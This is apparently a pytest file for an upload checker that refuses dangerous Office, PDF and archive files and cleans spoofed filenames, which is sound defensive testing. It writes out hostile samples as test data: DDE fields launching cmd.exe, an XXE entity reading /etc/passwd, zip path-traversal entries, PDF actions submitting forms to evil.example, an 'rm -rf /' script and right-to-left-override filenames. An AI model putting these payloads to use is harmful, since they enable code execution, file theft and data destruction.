"""More files that would deceive or harm: two kinds in one, parts with the names of others, programs asked for data, ways out of a PDF."""

import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook

from cts.domain.case_files import clean_name
from cts.domain.extract import COLUMNS
from cts.outside.cws_cms import NotAnExtract, columns_in
from cts.outside.file_checks import look_at
from cts.outside.unsafe_file import UnsafeFile
from tests.outside.test_file_checks import CONTENT_TYPES, a_docx, a_pdf, an_xlsx, packed, pdf_with


def commented(archive: bytes) -> bytes:
    """An archive with a web page in its comment."""
    kept = io.BytesIO(archive)
    with zipfile.ZipFile(kept, "a") as opened:
        opened.comment = b"<html><script>alert(1)</script>"
    return kept.getvalue()


def named(part: str) -> bytes:
    kept = io.BytesIO(a_docx())
    with zipfile.ZipFile(kept, "a") as opened:
        opened.writestr(part, "x")
    return kept.getvalue()


DDE = '<w:document><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" </w:instrText></w:document>'
LINK = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
DTD = '<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
HOSTILE = {
    "a part that declares an entity": (a_docx(word__header1_dot_xml=DTD), "DTD"),
    "the same in two bytes a letter": (a_docx(word__header1_dot_xml=DTD.encode("utf-16")), "DTD"),
    "a field that starts a program, in two bytes a letter": (a_docx(word__header1_dot_xml=DDE.encode("utf-16")), "DDE"),
    "an archive with a web page behind": (a_docx() + b"<html><script>", "two kinds"),
    "an archive with a web page in its comment": (commented(a_docx()), "two kinds"),
    "a workbook that is a PDF too": (an_xlsx() + a_pdf(), "two kinds"),
    "a part outside of the folder": (named("../../evil.xml"), "names its parts"),
    "a part at the root": (named("/etc/cron.d/evil"), "names its parts"),
    "a field that starts a program": (a_docx(word__header1_dot_xml=DDE), "DDE"),
    "a link that starts a program": (a_docx(xl__externalLinks__externalLink1_dot_xml=LINK), "DDE"),
    "macros of an old kind": (
        a_docx(
            types=CONTENT_TYPES.replace(
                "</Types>", '<Override ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>'
            )
        ),
        "macros",
    ),
    "a PDF that opens a file elsewhere": (
        pdf_with(b"9 0 obj\n<</S /GoToR /F (\\\\\\\\evil\\\\share)>>\nendobj"),
        "opens another",
    ),
    "a PDF that opens what is in it": (pdf_with(packed(b"<</S /GoToE /T <</R /C>>>>")), "opens another"),
    "a PDF that sends a form": (
        pdf_with(b"9 0 obj\n<</S /SubmitForm /F (https://evil.example)>>\nendobj"),
        "sends something",
    ),
    "a PDF that takes a form in": (pdf_with(b"9 0 obj\n<</S /Import#44ata /F (c:\\x)>>\nendobj"), "opens another"),
    "a PDF with a film": (pdf_with(b"9 0 obj\n<</Subtype /RichMedia>>\nendobj"), "script"),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_what_could_harm_is_refused_and_the_sentence_says_why(what: str) -> None:
    content, words = HOSTILE[what]
    with pytest.raises(UnsafeFile, match=words):
        look_at(content)


def test_what_people_write_about_such_things_is_kept() -> None:
    assert look_at(pdf_with(b"9 0 obj\n<</S /GoTo /D [3 0 R /Fit]>>\nendobj")) == "pdf"
    assert look_at(a_docx(word__header1_dot_xml="<w:t>DDE and DDEAUTO are explained in the training.</w:t>")) == "docx"


@pytest.mark.parametrize(
    ("typed", "suffix", "name"),
    [
        ("consent.pdf.exe", "pdf", "consent.pdf.exe.pdf"),
        ("consent.exe.pdf", "pdf", "consent.exe.pdf"),
        ("\u202dfdp.tnesnoc\u202c", "pdf", "fdp.tnesnoc.pdf"),
        ("a\u2066b\u2069\u200b\ufeff.pdf", "pdf", "ab.pdf"),
        ("CON\x00.pdf", "pdf", "CON.pdf"),
        ("%2e%2e%2fetc%2fpasswd", "pdf", "%2e%2e%2fetc%2fpasswd.pdf"),
        ("..\\..\\windows\\system32\\evil.pdf", "pdf", "evil.pdf"),
        ("C:evil.pdf", "pdf", "C evil.pdf"),
    ],
)
def test_a_name_never_tells_another_kind_than_the_content_has(typed: str, suffix: str, name: str) -> None:
    assert clean_name(typed, suffix) == name


def workbook(**parts: bytes) -> bytes:
    kept = io.BytesIO(an_xlsx())
    with zipfile.ZipFile(kept, "a", zipfile.ZIP_DEFLATED) as opened:
        for name, content in parts.items():
            opened.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return kept.getvalue()


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"MZ\x90\x00" + bytes(500), "not a table"),
        (b"\x7fELF" + bytes(500), "not a table"),
        (b"#!/bin/sh\nrm -rf /\n", "none of the extract's headings"),
        (a_pdf(), "none of the extract's headings"),
        (b"<svg onload=alert(1)/>\n", "none of the extract's headings"),
        (a_docx(), "can be opened"),
        (workbook(xl__vbaProject_dot_bin=b"macro"), "macros"),
    ],
)
def test_of_an_extract_only_a_table_is_read(content: bytes, words: str, tmp_path: Path) -> None:
    path = tmp_path / "upload"
    path.write_bytes(content)
    with pytest.raises(NotAnExtract, match=words):
        columns_in(path)


def test_an_upload_that_has_no_name_is_read_as_what_it_is(tmp_path: Path) -> None:
    path, book = tmp_path / "upload", Workbook()
    assert book.active is not None
    book.active.append([column.name for column in COLUMNS])
    book.save(path)
    assert columns_in(path) == {column.name for column in COLUMNS}


def test_a_workbook_whose_texts_would_fill_the_memory_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("cts.outside.cws_cms_table.MOST_BYTES_IN_MEMORY", 1_000_000)
    path = tmp_path / "upload"
    path.write_bytes(workbook(xl__media__a_dot_xml=bytes(2_000_000)))
    with pytest.raises(NotAnExtract, match="too large"):
        columns_in(path)
